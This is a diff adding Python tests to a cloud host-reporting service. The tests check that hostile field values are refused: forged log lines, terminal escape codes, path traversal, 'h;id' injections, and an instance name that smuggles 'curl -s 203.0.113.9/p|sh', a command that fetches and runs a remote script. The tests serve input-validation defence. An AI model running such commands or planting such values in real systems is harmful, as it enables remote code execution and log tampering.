@@ -4,6 +4,7 @@
 
 from __future__ import annotations
 
+import json
 import threading
 from typing import Any
 
@@ -213,14 +214,67 @@ class Service(cloud.Mixin):
     def test_names_that_forge_log_lines(self) -> None:
         """A host's name and version come from whoever speaks."""
         for host in ('h\nERROR forged', 'h\x1b[2J', 'h\u2028x', ' h', 'h ',
-                     'h\n'):
-            self.assertIn('not printable', self.refused(
+                     'h\n', 'h;id', '../h', 'h' * 256):
+            self.assertIn('$.host', self.refused(
                 codec.encode(report(host=host))))
+        for id_ in ('run_id', 'boot_id', 'workloads_digest'):
+            for text in ('x' * 65, 'x\n', 'x y'):
+                self.assertIn(f'$.{id_}', self.refused(codec.encode(
+                    codec.replace(report(), **{id_: text}))))
         self.refused(codec.encode(report(
             schema=wire.SCHEMA + 1,
             facts=wire.Facts(version='1\nERROR forged'))))
         self.assertNotIn('\nERROR', self.log.output)
         self.assertEqual([], self.rows(tables.hosts))
+
+    def test_a_command_in_the_place_of_an_instance(self) -> None:
+        """An operator's shell has the credentials of the cloud."""
+        command = 'x;curl -s 203.0.113.9/p|sh;#'
+        self.assertIn('$.workloads[0].instance', self.refused(codec.encode(
+            report(digest='d', workloads=[
+                batch('vm', kind='instance', instance=command)]))))
+        self.assertNotIn('curl', self.log.output)
+        self.assertEqual([], self.rows(tables.workloads))
+
+    def test_a_tag_that_is_not_of_nova_compute(self) -> None:
+        """Any client of the broker may send one."""
+        good = {'instance': '66666666-7777-4888-8999-aaaaaaaaaaaa',
+                'host': 'nowhere', 'priority': 'background'}
+        self.conductor.tag(json.dumps(good).encode())
+        self.assertIn('nowhere runs instances', self.log.output)
+        for name, value in (('host', 'h\nERROR'), ('host', 'h\x1b[2J'),
+                            ('host', 'h;id'), ('project', 'p\n'),
+                            ('application', 'a\u2028b'), ('source', 'x'),
+                            ('instance', good['instance'] + '\n'),
+                            ('instance', '../x')):
+            self.assertRaises(
+                errors.WireError, self.conductor.tag,
+                json.dumps({**good, name: value}).encode())
+        self.assertEqual(1, self.log.output.count('\n'))
+
+    def test_text_that_terminals_obey(self) -> None:
+        """One entry is refused, and the others are taken."""
+        for bad in ('a\n2026-01-01 CRITICAL', 'a\x1b[31m', 'a\u2028b',
+                    'a\u202eb', 'a\u200bb', 'a '):
+            entries: list[wire.AnyEntry] = [
+                incident(1, victim=bad), incident(1, cause=bad),
+                incident(1, antagonists=[bad]), limit(1, workload=bad),
+                wire.Kill(sequence=1, time_s=NOW, workload=bad,
+                          processes=1, owner='scavenger'),
+                statistics(1, NOW, 1, 1.0, 0.0, application=bad)]
+            if bad.strip() == bad:      # else it may be a sentence
+                entries += [
+                    limit(1, reason=bad), limit(1, why=bad), wire.AgentEvent(
+                        sequence=1, time_s=NOW, detail=bad, what='state')]
+            for entry in entries:
+                self.assertIn('$.entries[0]', self.refused(codec.encode(
+                    report(entry, limit(2)))))
+                self.now += service.REPEAT_S
+        self.assertEqual(1, self.answer(report(limit(1))).acknowledged)
+        # But for the ends of lines.
+        self.assertTrue(self.log.output.replace('\n', '').isprintable())
+        self.assertNotIn('CRITICAL', self.log.output)
+        self.assertEqual([], self.rows(tables.audit))
 
     def test_a_refusal_is_logged_once(self) -> None:
         for _ in range(3):
